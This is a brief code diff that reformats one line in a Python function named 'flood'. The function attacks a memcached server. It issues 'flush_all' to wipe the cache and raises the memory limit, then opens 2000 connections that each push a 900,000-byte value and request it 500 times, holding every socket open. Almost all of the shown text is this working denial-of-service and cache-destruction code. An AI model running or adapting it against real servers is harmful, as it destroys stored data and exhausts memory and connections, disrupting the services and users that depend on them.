@@ -26,7 +26,9 @@ def flood() -> None:
         say(b"flush_all\r\nverbosity 2\r\ncache_memlimit 100000\r\n")
         for number in range(2000):
             line = socket.create_connection((place.hostname, place.port), 2)
-            line.sendall(b"set big 0 0 900000\r\n" + b"x" * 900_000 + b"\r\n" + b"get big\r\n" * 500)
+            line.sendall(
+                b"set big 0 0 900000\r\n" + b"x" * 900_000 + b"\r\n" + b"get big\r\n" * 500
+            )
             held.append(line)
     except OSError:
         pass
